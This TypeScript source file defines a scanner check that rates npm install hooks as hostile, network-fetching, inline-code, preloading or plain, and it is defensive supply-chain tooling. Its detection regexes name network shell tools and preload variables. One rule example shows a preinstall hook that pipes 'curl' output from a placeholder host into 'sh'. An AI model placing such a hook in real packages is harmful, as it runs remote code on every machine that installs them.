import { defineCheck } from '../../../core/check.ts';
import type { HookScript } from '../../../formats/package-manifest/inline-code.ts';
import { packageManifest } from '../../../formats/package-manifest/package-manifest.ts';
import { hostileEffect } from '../hostile-command.ts';
import { CWE_494, CWE_506, CWE_78 } from '../references.ts';

/** Scripts that run on the machine of whoever installs the package as a dependency. */
const INSTALL_EVENTS: ReadonlySet<string> = new Set([
  'preinstall',
  'install',
  'postinstall',
  'preuninstall',
  'uninstall',
  'postuninstall',
]);
const SHOWN = 200;

/** Programs that fetch, and programs that run text. Both may be honest in a project's own scripts. */
const FETCHES_RE =
  /(?:^|[\s;&|("'`])(?:curl|wget|nc|ncat|netcat|socat|scp|ftp|tftp|nslookup|dig|Invoke-WebRequest|iwr|bitsadmin|certutil)(?:\.exe)?\s/i;
const INLINE_RE =
  /\b(?:python[\d.]*|perl|ruby|php|powershell|pwsh|cmd|osascript)(?:\.exe)?\s+(?:-c|-e|-r|-command|\/c|-EncodedCommand)\b|\b(?:ba|z|da)?sh\s+-c\b/i;
/** `node -e "try{require('./x')}catch(e){}"` is how packages run a file that may be missing. */
const NODE_INLINE_RE = /\bnode\s+(?:-\w+\s+)*(?:-e|--eval|-p|-pe|--print)\b/;
const PRELOAD_RE =
  /\bNODE_OPTIONS\s*=|\s--require[\s=]|\bLD_PRELOAD\s*=|\bDYLD_INSERT_LIBRARIES\s*=/;
const ADDRESS_RE = /\bhttps?:\/\/[^\s"'`]+/i;

/** An address that is only shown to people. */
function isTalk(command: string, script: HookScript | undefined): boolean {
  return script?.onlyTalks === true || /\becho\b/.test(command);
}

export default defineCheck({
  id: 'install-hooks',
  version: 1,
  title: 'Commands that installing an npm package runs',
  needs: [packageManifest],
  rules: {
    'hostile-hook': {
      title: 'Installing fetches and runs, or sends something away',
      severity: 'critical',
      message: 'the {event} script {effect}: {command}',
      why: 'npm runs the script on every machine that installs the package, also as a dependency of a dependency. No honest package needs such a command.',
      fix: 'Do not install the package. If it was installed, take the machine and its credentials as taken.',
      references: [CWE_506, CWE_494],
      example: {
        bad: '"preinstall": "curl -s https://host.invalid/x | sh"',
        good: '"install": "node-gyp rebuild"',
      },
    },
    'fetching-hook': {
      title: 'Installing talks to the network',
      severity: 'high',
      message: 'the {event} script calls a program that connects elsewhere: {command}',
      why: 'What comes back is not in the package, not in the lock file, and can be something else for each machine. Looking up a name is enough to tell somebody where the package was installed.',
      fix: 'Install with --ignore-scripts and fetch what is needed with a known digest.',
      references: [CWE_494, CWE_506],
      example: {
        bad: '"postinstall": "wget https://host.invalid/tool"',
        good: '"postinstall": "node scripts/check.js"',
      },
    },
    'inline-hook': {
      title: 'Installing runs code from the manifest',
      severity: 'medium',
      message: 'the {event} script carries its code itself: {command}',
      why: 'Code in a manifest is not linted, tested or read. Scripts that have nothing to hide stand in a file.',
      fix: 'Read the code before the package is installed, or install with --ignore-scripts.',
      references: [CWE_78, CWE_506],
      example: {
        bad: '"preinstall": "python3 -c \'…\'"',
        good: '"preinstall": "node scripts/check.js"',
      },
    },
    'preloading-hook': {
      title: 'Installing loads something into other programs',
      severity: 'high',
      message: 'the {event} script sets what other programs load: {command}',
      why: 'NODE_OPTIONS and LD_PRELOAD put code into every program that is started afterwards.',
      fix: 'Install with --ignore-scripts.',
      references: [CWE_506],
      example: {
        bad: '"postinstall": "NODE_OPTIONS=--require=./x.js npm run y"',
        good: '"postinstall": "node check.js"',
      },
    },
    'install-hook': {
      title: 'Installing runs a script',
      severity: 'low',
      message: 'the {event} script runs: {command}',
      why: 'Whatever it does happens on every machine that installs the package. Packages with native parts need it; most others do not.',
      fix: 'Read the script, or allow scripts by name and deny the others.',
      references: [CWE_78],
      example: { bad: '"postinstall": "node setup.js"', good: 'no install script' },
    },
  },
  run: (inputs, { report }) => {
    for (const { path, value } of inputs['package-manifest']) {
      for (const { event, command: whole } of value.hooks) {
        const command = whole.slice(0, SHOWN);
        const place = { path };
        const evidence = { evidence: [whole.slice(0, SHOWN * 2)] };
        const script = value.scripts.find((other) => other.event === event);
        const effect = hostileEffect(whole) ?? hostileEffect(script?.expanded ?? '');
        if (effect !== undefined) {
          report('hostile-hook', place, { event, effect, command }, evidence);
          continue;
        }
        if (!INSTALL_EVENTS.has(event)) continue;
        if (PRELOAD_RE.test(whole)) report('preloading-hook', place, { event, command }, evidence);
        else if (
          FETCHES_RE.test(` ${whole}\n ${script?.expanded ?? ''}`) ||
          (ADDRESS_RE.test(whole) && !isTalk(whole, script))
        )
          report('fetching-hook', place, { event, command }, evidence);
        else if (
          script?.onlyTalks !== true &&
          (INLINE_RE.test(whole) ||
            (script?.inline.length ?? 0) > 0 ||
            (script === undefined && NODE_INLINE_RE.test(whole)))
        )
          report('inline-hook', place, { event, command }, evidence);
        else report('install-hook', place, { event, command }, evidence);
      }
    }
  },
});
